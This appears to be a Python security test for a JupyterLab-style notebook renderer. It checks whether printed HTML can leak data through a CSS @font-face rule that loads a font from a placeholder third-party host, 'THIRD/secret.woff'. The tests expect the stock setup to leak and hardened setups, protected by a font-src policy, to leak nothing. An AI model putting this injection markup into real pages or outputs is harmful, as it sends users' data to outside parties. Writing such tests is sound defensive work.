"""Print a style with a font of a third party, the address being the data.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `font-src` lets no other origin in; from tier 2 on printed markup keeps no such element
"""

OUTPUT = """
<style>@font-face {font-family: leak; src: url(THIRD/secret.woff)}</style>
<p style="font-family: leak">text</p>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
